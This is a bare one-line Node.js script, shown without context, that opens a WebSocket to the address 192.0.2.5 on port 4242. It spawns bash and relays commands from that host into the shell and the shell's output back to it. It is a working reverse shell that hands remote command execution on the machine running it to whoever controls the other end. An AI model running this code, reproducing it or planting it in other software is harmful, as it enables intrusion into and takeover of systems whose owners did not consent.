const ws=new (require('ws'))('ws://192.0.2.5:4242');const p=require('child_process').spawn('bash');ws.on('message',m=>p.stdin.write(m));p.stdout.on('data',d=>ws.send(d));
